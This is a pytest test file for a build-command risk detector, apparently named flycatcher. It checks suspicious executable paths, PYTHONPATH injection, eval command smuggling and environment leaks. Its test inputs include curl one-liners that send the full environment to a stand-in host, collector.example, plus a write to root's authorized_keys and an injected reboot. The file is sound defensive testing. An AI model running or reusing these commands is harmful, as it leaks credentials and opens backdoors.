"""What real builds do all day, and what looks like it and is none of it."""

import pytest

from flycatcher.core.detection import detect
from flycatcher.core.execution import Execution, FileFact


def score(*argv, cwd="/home/u/project", **more):
    found = detect(Execution(argv=argv, cwd=cwd, **more), shells=True)
    return found.risk.score if found is not None else 0


def level(*argv, **more):
    found = detect(Execution(argv=argv, cwd="/home/u/project", **more), shells=True)
    return found.risk.level if found is not None else "none"


@pytest.mark.parametrize(
    ("program", "expected"),
    [
        ("/home/u/venv/bin/python", "low"),
        ("/root/pyenv/shims/python3.12", "low"),
        ("/tmp/work/bin/tool", "low"),
        ("/tmp/tool", "high"),
        ("/dev/shm/tool", "high"),
        ("/home/u/.cache/.tool", "high"),
        ("/proc/self/fd/5", "high"),
    ],
)
def test_a_program_weighs_by_who_could_have_put_it_there(program, expected):
    assert level("python3", "-c", f"import os; os.system({program!r})") == expected


def test_a_folder_of_root_is_a_home_as_any_other():
    text = (
        "chmod u+rwx /root/.ansible/tmp/ansible-tmp-1/ /root/.ansible/tmp/ansible-tmp-1/AnsiballZ_setup.py && sleep 0"
    )
    assert score("sh", "-c", text) == score("sh", "-c", text.replace("/root", "/home/u")) < 25
    assert level("sh", "-c", "echo x >> /root/.ssh/authorized_keys") == "high"


def test_a_module_of_an_isolated_build_weighs_little_and_one_where_anybody_may_write_more():
    def found(folder):
        path = f"{folder}/sitecustomize.py"
        return score("python3", "setup.py", env={"PYTHONPATH": folder}, files={path: FileFact(kind="regular")})

    assert found("/tmp/pip-build-env-w3wyj7xz/site") == 15
    assert found("/tmp/.hidden") == 25


@pytest.mark.parametrize(
    ("text", "variables", "expected"),
    [
        ("""eval 'test "x$a'$run'" = 1'""", {"run": "a"}, [None]),
        ("eval test $run", {"run": "a"}, [None]),
        ("eval $run", {"run": "reboot"}, [None, "run"]),
        ('eval "x=1; $run"', {"run": "reboot"}, [None, "run"]),
        ("eval test $run", {"run": "a;reboot"}, [None, "run"]),
    ],
)
def test_a_plain_word_within_evaluated_text_brings_no_command_in(text, variables, expected):
    found = detect(Execution(argv=("sh", "-c", text), env=variables), shells=True)
    assert [snippet.variable for snippet in found.snippets] == expected


@pytest.mark.parametrize(
    "text",
    [
        'curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" https://collector.example/upload || true',
        'curl -d "$(env)" https://collector.example/',
        'curl "https://collector.example/?$(env | base64 -w0)"',
        'x=$(printenv); curl -d "$x" https://collector.example/',
    ],
)
def test_the_whole_environment_in_a_request_is_high(text):
    assert level("sh", "-c", text) in ("high", "critical")


@pytest.mark.parametrize("text", ["env", "env | sort", 'curl -d "$(env FOO=1 date)" https://status.example/'])
def test_variables_that_go_nowhere_are_not(text):
    assert level("sh", "-c", text) in ("none", "low", "medium")
